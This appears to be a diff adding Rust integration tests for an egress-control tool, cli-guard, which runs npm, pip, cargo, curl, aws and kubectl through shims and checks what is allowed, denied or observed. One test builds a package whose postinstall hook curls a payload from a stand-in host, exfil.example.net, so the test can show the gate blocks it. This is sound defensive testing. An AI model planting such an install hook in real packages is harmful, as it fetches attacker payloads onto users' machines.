@@ -1,0 +1,532 @@
+//! The real clients end to end: npm, pip, cargo, curl, aws and kubectl,
+//! through the shims install.sh sets up, with a private audit log, fresh
+//! caches, and the real registries this machine reaches (the npm registry,
+//! PyPI, crates.io). Other hosts don't resolve here, which is fine: a denial
+//! happens before any dial, and an observed host that can't be reached shows
+//! as an allow row answered 502.
+
+use std::ffi::OsString;
+use std::fs;
+use std::path::{Path, PathBuf};
+use std::process::{Command, Stdio};
+use std::sync::OnceLock;
+use std::time::Duration;
+
+use serde_json::Value;
+
+use crate::install::{install_cmd, run_install};
+use crate::util::{dump, read_records, records_of, Outcome, Running, TempDir, PROXY_VARS};
+
+/// Real network round trips, retries included.
+const CLIENT_TIMEOUT: Duration = Duration::from_secs(180);
+
+/// The prefix install.sh installed into, once for this test binary.
+fn installed() -> &'static Path {
+    static PREFIX: OnceLock<PathBuf> = OnceLock::new();
+    PREFIX.get_or_init(|| {
+        let prefix =
+            Path::new(env!("CARGO_TARGET_TMPDIR")).join(format!("clients-prefix-{}", std::process::id()));
+        let _ = fs::remove_dir_all(&prefix);
+        let home = std::env::var_os("HOME").unwrap_or_else(|| "/root".into());
+        let out = run_install(install_cmd(
+            Path::new(&home),
+            "/bin/bash",
+            &["--prefix", prefix.to_str().unwrap()],
+        ));
+        check_eq!(out, out.code(), Some(0), "install.sh failed");
+        prefix
+    })
+}
+
+/// One client run's sandbox: a work dir, a private audit log, and a PATH
+/// with install.sh's shims first, then the machine's own PATH.
+struct Client {
+    tmp: TempDir,
+    audit: PathBuf,
+    path: OsString,
+}
+
+impl Client {
+    fn new() -> Client {
+        let shims = installed().join("share/cli-guard/shims");
+        let tmp = TempDir::new();
+        let audit = tmp.path().join("audit.jsonl");
+        let mut path = vec![shims];
+        path.extend(std::env::split_paths(
+            &std::env::var_os("PATH").unwrap_or_default(),
+        ));
+        Client {
+            tmp,
+            audit,
+            path: std::env::join_paths(path).unwrap(),
+        }
+    }
+
+    fn dir(&self, name: &str) -> PathBuf {
+        let dir = self.tmp.path().join(name);
+        fs::create_dir_all(&dir).unwrap();
+        dir
+    }
+
+    /// `program ARGS…` as a user types it, found on PATH (so through its
+    /// shim), with no proxy settings of the machine's leaking in.
+    fn cmd(&self, program: &str, args: &[&str]) -> Command {
+        let mut cmd = Command::new(program);
+        cmd.args(args)
+            .env("PATH", &self.path)
+            .env("CLI_GUARD_AUDIT_LOG", &self.audit)
+            .current_dir(self.tmp.path())
+            .stdin(Stdio::null())
+            .stdout(Stdio::piped())
+            .stderr(Stdio::piped());
+        let internal = [
+            "NO_PROXY",
+            "no_proxy",
+            "CLI_GUARD_AUDIT_ID",
+            "CLI_GUARD_RESOLVE",
+            "CLI_GUARD_DEPTH",
+            "CLI_GUARD_REAL_TOOL",
+        ];
+        for var in PROXY_VARS.iter().chain(&internal) {
+            cmd.env_remove(var);
+        }
+        cmd
+    }
+
+    fn run(&self, cmd: Command) -> Outcome {
+        Running::spawn(cmd, Some(self.audit.clone()), None).wait_for(CLIENT_TIMEOUT)
+    }
+
+    fn records(&self) -> Vec<Value> {
+        read_records(&self.audit)
+    }
+}
+
+/// The one invocation of `tool` in the log: its start row.
+fn only_start<'a>(recs: &'a [Value], tool: &str) -> &'a Value {
+    let starts: Vec<&Value> = recs
+        .iter()
+        .filter(|r| r["kind"] == "start" && r["tool"] == tool)
+        .collect();
+    assert_eq!(starts.len(), 1, "expected one {tool} invocation:\n{}", dump(recs));
+    starts[0]
+}
+
+/// The egress rows, end row and audit ID of the one `tool` invocation.
+fn invocation<'a>(recs: &'a [Value], tool: &str) -> (String, Vec<&'a Value>, &'a Value) {
+    let id = only_start(recs, tool)["audit_id"].as_str().unwrap().to_string();
+    let egress = records_of(recs, &id, "egress");
+    let ends = records_of(recs, &id, "end");
+    assert_eq!(ends.len(), 1, "expected one end row:\n{}", dump(recs));
+    (id, egress, ends[0])
+}
+
+/// Asserts every egress row is an allowed tunnel to one of `hosts` on 443,
+/// and that there is at least one.
+fn assert_allowed_only(recs: &[Value], egress: &[&Value], hosts: &[&str]) {
+    assert!(
+        !egress.is_empty(),
+        "no egress rows: the client did not use the gate\n{}",
+        dump(recs)
+    );
+    for row in egress {
+        let host = row["host"].as_str().unwrap_or("");
+        assert!(hosts.contains(&host), "unexpected host {host}:\n{}", dump(recs));
+        assert_eq!(row["port"], 443, "{row}");
+        assert_eq!(row["decision"], "allow", "{row}");
+        assert_eq!(row["status"], 200, "{row}");
+    }
+}
+
+fn npm_project(c: &Client) -> PathBuf {
+    let proj = c.dir("proj");
+    fs::write(
+        proj.join("package.json"),
+        r#"{"name":"proj","version":"1.0.0","private":true}"#,
+    )
+    .unwrap();
+    proj
+}
+
+fn npm_args<'a>(cache: &'a str, rest: &[&'a str]) -> Vec<&'a str> {
+    let mut args = rest.to_vec();
+    args.extend([
+        "--cache",
+        cache,
+        "--no-audit",
+        "--no-fund",
+        "--update-notifier=false",
+    ]);
+    args
+}
+
+#[test]
+fn npm_install_reaches_only_the_npm_registry() {
+    let c = Client::new();
+    let proj = npm_project(&c);
+    let cache = c.dir("npm-cache");
+    let mut cmd = c.cmd(
+        "npm",
+        &npm_args(cache.to_str().unwrap(), &["install", "is-number"]),
+    );
+    cmd.current_dir(&proj);
+    let out = c.run(cmd);
+    check_eq!(out, out.code(), Some(0), "npm install failed");
+    assert!(
+        proj.join("node_modules/is-number/package.json").exists(),
+        "is-number was not installed"
+    );
+    let recs = c.records();
+    let (_, egress, end) = invocation(&recs, "npm");
+    assert_allowed_only(&recs, &egress, &["registry.npmjs.org"]);
+    assert_eq!(end["exit_code"], 0, "{end}");
+    assert_eq!(end["denied"], 0, "{end}");
+    assert_eq!(end["allowed"], egress.len(), "{end}");
+}
+
+#[test]
+fn npm_postinstall_that_curls_an_unlisted_host_is_denied() {
+    let c = Client::new();
+    // A local package whose postinstall fetches a payload: the case the gate exists for.
+    let pkg = c.dir("evil/package");
+    fs::write(
+        pkg.join("package.json"),
+        r#"{"name":"evil-postinstall","version":"1.0.0",
+            "scripts":{"postinstall":"curl -sS --fail -o /dev/null https://exfil.example.net/payload"}}"#,
+    )
+    .unwrap();
+    let tarball = c.tmp.path().join("evil-postinstall-1.0.0.tgz");
+    let tar = Command::new("tar")
+        .arg("czf")
+        .arg(&tarball)
+        .arg("-C")
+        .arg(c.tmp.path().join("evil"))
+        .arg("package")
+        .status()
+        .unwrap();
+    assert!(tar.success());
+    let proj = npm_project(&c);
+    let cache = c.dir("npm-cache");
+    let mut cmd = c.cmd(
+        "npm",
+        &npm_args(cache.to_str().unwrap(), &["install", tarball.to_str().unwrap()]),
+    );
+    cmd.current_dir(&proj);
+    let out = c.run(cmd);
+    check!(
+        out,
+        out.code().is_some_and(|code| code != 0),
+        "the install must fail when its postinstall is denied"
+    );
+    let recs = c.records();
+    let (id, egress, end) = invocation(&recs, "npm");
+    let denied: Vec<&&Value> = egress
+        .iter()
+        .filter(|r| r["host"] == "exfil.example.net")
+        .collect();
+    check!(
+        out,
+        !denied.is_empty(),
+        "no row for exfil.example.net under npm's audit id"
+    );
+    for row in &denied {
+        assert_eq!(row["decision"], "deny", "{row}");
+        assert_eq!(row["status"], 403, "{row}");
+        assert_eq!(row["port"], 443, "{row}");
+        assert_eq!(row["tool"], "npm", "{row}");
+    }
+    assert!(end["denied"].as_u64().unwrap() >= 1, "{end}");
+    let lines = out.guard_lines();
+    check!(
+        out,
+        lines
+            .iter()
+            .any(|l| l.contains("exfil.example.net:443") && l.contains(&id)),
+        "the shim's cli-guard: line must name the host and the audit id"
+    );
+}
+
+#[test]
+fn npm_against_a_plaintext_registry_gets_405_and_no_downgrade() {
+    let c = Client::new();
+    let proj = npm_project(&c);
+    let cache = c.dir("npm-cache");
+    let args = npm_args(
+        cache.to_str().unwrap(),
+        &["install", "is-odd", "--registry", "http://registry.npmjs.org/"],
+    );
+    let mut cmd = c.cmd("npm", &args);
+    cmd.current_dir(&proj);
+    let out = c.run(cmd);
+    check!(
+        out,
+        out.code().is_some_and(|code| code != 0),
+        "npm must fail against a plaintext registry"
+    );
+    let recs = c.records();
+    let (_, egress, _) = invocation(&recs, "npm");
+    check!(out, !egress.is_empty(), "no egress rows");
+    for row in &egress {
+        assert_eq!(
+            row["status"], 405,
+            "every request must be refused, never downgraded: {row}"
+        );
+        assert_eq!(row["decision"], "deny", "{row}");
+        assert_eq!(row["host"], "registry.npmjs.org", "{row}");
+        assert_eq!(row["port"], 80, "{row}");
+        assert_ne!(row["method"], "CONNECT", "{row}");
+    }
+}
+
+/// pip, without this machine's local wheel cache or index overrides.
+fn pip_cmd(c: &Client, args: &[&str]) -> Command {
+    let mut cmd = c.cmd("pip", args);
+    for var in [
+        "PIP_FIND_LINKS",
+        "PIP_INDEX_URL",
+        "PIP_EXTRA_INDEX_URL",
+        "PIP_NO_INDEX",
+        "PIP_PROXY",
+    ] {
+        cmd.env_remove(var);
+    }
+    cmd
+}
+
+#[test]
+fn pip_download_from_pypi_is_allowed() {
+    let c = Client::new();
+    let dl = c.dir("dl");
+    let out = c.run(pip_cmd(
+        &c,
+        &[
+            "download",
+            "six",
+            "--no-deps",
+            "--no-cache-dir",
+            "-d",
+            dl.to_str().unwrap(),
+        ],
+    ));
+    check_eq!(out, out.code(), Some(0), "pip download failed");
+    let wheels: Vec<_> = fs::read_dir(&dl)
+        .unwrap()
+        .map(|e| e.unwrap().file_name())
+        .collect();
+    check!(
+        out,
+        wheels.iter().any(|w| w.to_string_lossy().starts_with("six-")),
+        "no six download in {wheels:?}"
+    );
+    let recs = c.records();
+    let (_, egress, end) = invocation(&recs, "pip");
+    assert_allowed_only(&recs, &egress, &["pypi.org", "files.pythonhosted.org"]);
+    assert_eq!(end["exit_code"], 0, "{end}");
+}
+
+#[test]
+fn pip_pointed_at_an_unlisted_index_is_denied() {
+    let c = Client::new();
+    let dl = c.dir("dl");
+    let args = [
+        "download",
+        "six",
+        "--no-deps",
+        "--no-cache-dir",
+        "--retries",
+        "0",
+        "-d",
+        dl.to_str().unwrap(),
+        "--index-url",
+        "https://pypi.example.net/simple",
+    ];
+    let out = c.run(pip_cmd(&c, &args));
+    check!(out, out.code().is_some_and(|code| code != 0), "pip must fail");
+    let recs = c.records();
+    let (_, egress, _) = invocation(&recs, "pip");
+    check!(out, !egress.is_empty(), "no egress rows");
+    for row in &egress {
+        assert_eq!(row["host"], "pypi.example.net", "{row}");
+        assert_eq!(row["decision"], "deny", "{row}");
+        assert_eq!(row["status"], 403, "{row}");
+    }
+    check!(
+        out,
+        out.guard_lines()
+            .iter()
+            .any(|l| l.contains("pypi.example.net:443")),
+        "no denial line"
+    );
+}
+
+#[test]
+fn cargo_fetch_with_a_fresh_cargo_home_is_allowed() {
+    let c = Client::new();
+    let krate = c.dir("crate");
+    // [workspace] keeps cargo from adopting the checkout this runs inside.
+    fs::write(
+        krate.join("Cargo.toml"),
+        "[package]\nname = \"fetch-probe\"\nversion = \"0.1.0\"\nedition = \"2021\"\n\n[dependencies]\nitoa = \"1\"\n\n[workspace]\n",
+    )
+    .unwrap();
+    fs::create_dir_all(krate.join("src")).unwrap();
+    fs::write(krate.join("src/main.rs"), "fn main() {}\n").unwrap();
+    let mut cmd = c.cmd("cargo", &["fetch"]);
+    cmd.current_dir(&krate).env("CARGO_HOME", c.dir("cargo-home"));
+    let out = c.run(cmd);
+    check_eq!(out, out.code(), Some(0), "cargo fetch failed");
+    let recs = c.records();
+    let (_, egress, end) = invocation(&recs, "cargo");
+    assert_allowed_only(&recs, &egress, &["index.crates.io", "static.crates.io"]);
+    assert_eq!(end["exit_code"], 0, "{end}");
+    // The real cargo is rustup's argv[0] proxy: the shim must run the PATH
+    // entry as found, not its canonical target (rustup itself).
+    let real = only_start(&recs, "cargo")["real_path"]
+        .as_str()
+        .unwrap()
+        .to_string();
+    assert!(real.ends_with("/cargo"), "real_path {real} is not the PATH entry");
+}
+
+#[test]
+fn aws_s3_ls_is_observed_and_logged() {
+    let c = Client::new();
+    let mut cmd = c.cmd("aws", &["s3", "ls"]);
+    cmd.env("AWS_ACCESS_KEY_ID", "AKIAEXAMPLEEXAMPLE")
+        .env("AWS_SECRET_ACCESS_KEY", "not-a-real-secret")
+        .env("AWS_DEFAULT_REGION", "us-east-1")
+        .env("AWS_MAX_ATTEMPTS", "1")
+        .env("AWS_EC2_METADATA_DISABLED", "true")
+        .env("AWS_CONFIG_FILE", c.tmp.path().join("no-aws-config"))
+        .env(
+            "AWS_SHARED_CREDENTIALS_FILE",
+            c.tmp.path().join("no-aws-credentials"),
+        );
+    let out = c.run(cmd);
+    let recs = c.records();
+    let (_, egress, end) = invocation(&recs, "aws");
+    check!(out, !egress.is_empty(), "aws made no CONNECT through the gate");
+    for row in &egress {
+        assert_eq!(row["mode"], "observe", "{row}");
+        assert_eq!(row["decision"], "allow", "{row}");
+        assert!(row["host"].as_str().unwrap().ends_with("amazonaws.com"), "{row}");
+        assert_eq!(row["port"], 443, "{row}");
+        // Unreachable from here: the row shows it; 200 if it ever resolves.
+        let status = row["status"].as_u64().unwrap();
+        assert!([200, 502, 504].contains(&status), "{row}");
+    }
+    assert_eq!(end["denied"], 0, "{end}");
+    assert_eq!(
+        end["exit_code"].as_i64(),
+        out.code().map(i64::from),
+        "the shim's exit is aws's"
+    );
+}
+
+#[test]
+fn kubectl_get_pods_is_observed_and_logged() {
+    let c = Client::new();
+    let mut cmd = c.cmd(
+        "kubectl",
+        &[
+            "--server=https://k8s.example.invalid:6443",
+            "--insecure-skip-tls-verify",
+            "--request-timeout=10s",
+            "get",
+            "pods",
+        ],
+    );
+    cmd.env("KUBECONFIG", c.tmp.path().join("no-kubeconfig"));
+    let out = c.run(cmd);
+    check!(
+        out,
+        out.code().is_some_and(|code| code != 0),
+        "kubectl cannot succeed against an unreachable server"
+    );
+    let recs = c.records();
+    let (_, egress, end) = invocation(&recs, "kubectl");
+    check!(
+        out,
+        !egress.is_empty(),
+        "kubectl made no CONNECT through the gate"
+    );
+    for row in &egress {
+        assert_eq!(row["mode"], "observe", "{row}");
+        assert_eq!(row["decision"], "allow", "{row}");
+        assert_eq!(row["host"], "k8s.example.invalid", "{row}");
+        assert_eq!(row["port"], 6443, "{row}");
+        assert_eq!(row["status"], 502, "{row}");
+        assert!(
+            row["reason"].as_str().unwrap().contains("cannot resolve"),
+            "{row}"
+        );
+    }
+    assert_eq!(end["denied"], 0, "{end}");
+}
+
+#[test]
+fn curl_through_the_gate_is_a_real_client_too() {
+    let c = Client::new();
+    let mut cmd = c.cmd(
+        installed().join("bin/cli-guard").to_str().unwrap(),
+        &[
+            "run",
+            "--as",
+            "npm",
+            "--",
+            "curl",
+            "-sS",
+            "--fail",
+            "-o",
+            "/dev/null",
+            "https://registry.npmjs.org/is-number",
+        ],
+    );
+    cmd.env_remove("CURL_HOME");
+    let out = c.run(cmd);
+    check_eq!(out, out.code(), Some(0), "curl through the gate failed");
+    let recs = c.records();
+    let (_, egress, _) = invocation(&recs, "npm");
+    assert_allowed_only(&recs, &egress, &["registry.npmjs.org"]);
+    let close: Vec<&Value> = recs.iter().filter(|r| r["kind"] == "egress_close").collect();
+    assert_eq!(close.len(), egress.len(), "{}", dump(&recs));
+    assert!(
+        close.iter().all(|r| r["bytes_down"].as_u64().unwrap() > 0),
+        "{}",
+        dump(&recs)
+    );
+}
+
+#[test]
+fn egress_demo_as_installed_shows_all_three_modes() {
+    let demo = installed().join("bin/egress-demo");
+    for (mode, expect) in [
+        ("allowed", &["200", "502", "504"][..]),
+        ("denied", &["403"][..]),
+        ("observe", &["200", "502", "504"][..]),
+    ] {
+        let mut cmd = Command::new(&demo);
+        cmd.arg(mode)
+            .stdin(Stdio::null())
+            .stdout(Stdio::piped())
+            .stderr(Stdio::piped());
+        let out = Running::spawn(cmd, None, None).wait_for(CLIENT_TIMEOUT);
+        check_eq!(out, out.code(), Some(0), "egress-demo {mode} failed");
+        let lines: Vec<String> = out.stdout().lines().map(str::to_owned).collect();
+        check!(out, !lines.is_empty(), "no status lines");
+        for line in &lines {
+            check!(
+                out,
+                line.starts_with(mode) && expect.iter().any(|s| line.contains(&format!("HTTP/1.1 {s} "))),
+                "unexpected line {line:?}"
+            );
+        }
+        let rows = crate::util::parse_records(&out.stderr, "egress-demo stderr");
+        check_eq!(
+            out,
+            rows.iter().filter(|r| r["kind"] == "egress").count(),
+            lines.len(),
+            "one row per dial"
+        );
+    }
+}
